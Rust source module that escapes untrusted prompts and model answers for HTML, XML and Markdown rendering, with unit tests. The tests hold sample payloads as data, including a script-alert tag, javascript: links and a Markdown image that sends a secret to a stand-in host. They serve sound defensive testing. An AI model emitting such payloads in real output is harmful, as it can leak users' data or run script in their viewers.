//! Escaping for every output format. Prompts and model answers are hostile input: they may carry
//! markup, script, control characters or markdown that a viewer would act on. Every renderer routes
//! each piece of data through one of these functions, so a payload is always shown, never executed.

use std::fmt::Write;

/// Escapes text for HTML element content and quoted attribute values. NUL and other C0 controls
/// (except tab, newline, carriage return) become U+FFFD so parsers cannot be confused by them.
#[must_use]
pub fn html(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 8);
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            '`' => out.push_str("&#96;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if c.is_control() => out.push('\u{FFFD}'),
            c => out.push(c),
        }
    }
    out
}

/// Whether `c` may appear in an XML 1.0 document at all (even escaped).
fn xml_allowed(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..='\u{10FFFF}')
}

/// Escapes text for XML content or a double-quoted attribute. Characters XML 1.0 forbids outright
/// are written as `\u{..}` so nothing is lost silently; newlines in attributes become `&#10;`.
#[must_use]
pub fn xml(s: &str) -> String {
    xml_escape(s, true)
}

/// Escapes text for XML element content: like [`xml`], but line breaks and tabs stay as they are.
#[must_use]
pub fn xml_text(s: &str) -> String {
    xml_escape(s, false)
}

fn xml_escape(s: &str, attribute: bool) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 8);
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\n' | '\r' | '\t' if !attribute => out.push(c),
            '\n' => out.push_str("&#10;"),
            '\r' => out.push_str("&#13;"),
            '\t' => out.push_str("&#9;"),
            c if !xml_allowed(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out
}

/// Escapes text for one line of Markdown (a table cell or a sentence): markdown and HTML
/// punctuation is backslash-escaped, newlines become spaces, so links, images and raw HTML stay text.
#[must_use]
pub fn md_inline(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '\\' | '`' | '*' | '_' | '{' | '}' | '[' | ']' | '(' | ')' | '#' | '+' | '!' | '|' | '~'
            | '$' => {
                out.push('\\');
                out.push(c);
            }
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\n' | '\r' | '\t' => out.push(' '),
            c if c.is_control() => out.push('\u{FFFD}'),
            c => out.push(c),
        }
    }
    out
}

/// A fenced Markdown code block holding `s` verbatim. The fence is longer than any run of
/// backticks inside `s`, so the text cannot close it early.
#[must_use]
pub fn md_fence(s: &str) -> String {
    md_fence_lang(s, "text")
}

/// [`md_fence`] with an info string (`json`, `text`).
#[must_use]
pub fn md_fence_lang(s: &str, lang: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in s.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    let fence = "`".repeat((longest + 1).max(3));
    let body: String = s
        .chars()
        .map(|c| {
            if c.is_control() && !matches!(c, '\n' | '\t') {
                '\u{FFFD}'
            } else {
                c
            }
        })
        .collect();
    format!("{fence}{lang}\n{body}\n{fence}\n")
}

/// Cuts `s` to at most `max` characters, saying how much was left out.
#[must_use]
pub fn truncate(s: &str, max: usize) -> std::borrow::Cow<'_, str> {
    match s.char_indices().nth(max) {
        None => std::borrow::Cow::Borrowed(s),
        Some((i, _)) => {
            let rest = s[i..].chars().count();
            std::borrow::Cow::Owned(format!("{}… [{rest} more characters in the journal]", &s[..i]))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn html_neutralises_markup_and_quotes() {
        let s = html(r#"<script>alert("x")</script><a href='javascript:1'>&amp;`"#);
        assert!(!s.contains('<') && !s.contains('>') && !s.contains('"') && !s.contains('\''));
        assert_eq!(
            s,
            "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;a href=&#39;javascript:1&#39;&gt;&amp;amp;&#96;"
        );
        assert_eq!(html("a\u{0}b\u{1b}c\nd"), "a\u{FFFD}b\u{FFFD}c\nd");
    }

    #[test]
    fn xml_drops_nothing_and_stays_well_formed() {
        assert_eq!(
            xml("a<b & \"c\"\n\u{0}\u{FFFF}"),
            "a&lt;b &amp; &quot;c&quot;&#10;\\u{0}\\u{ffff}"
        );
    }

    #[test]
    fn markdown_inline_disarms_images_links_and_html() {
        let s = md_inline("![x](https://evil.example/?q=secret) <img src=x> [a](javascript:1) |");
        assert!(!s.contains("!["), "{s}");
        assert!(!s.contains("](") && !s.contains('<'), "{s}");
        assert!(s.contains("\\|"));
    }

    #[test]
    fn fence_is_longer_than_any_backtick_run() {
        let f = md_fence("a ````` b");
        assert!(f.starts_with("``````text\n"), "{f}");
        assert!(f.ends_with("\n``````\n"));
        assert!(md_fence("plain").starts_with("```text\n"));
    }

    #[test]
    fn truncate_counts_characters() {
        assert_eq!(truncate("héllo", 10), "héllo");
        assert_eq!(truncate("héllo", 2), "hé… [3 more characters in the journal]");
    }
}
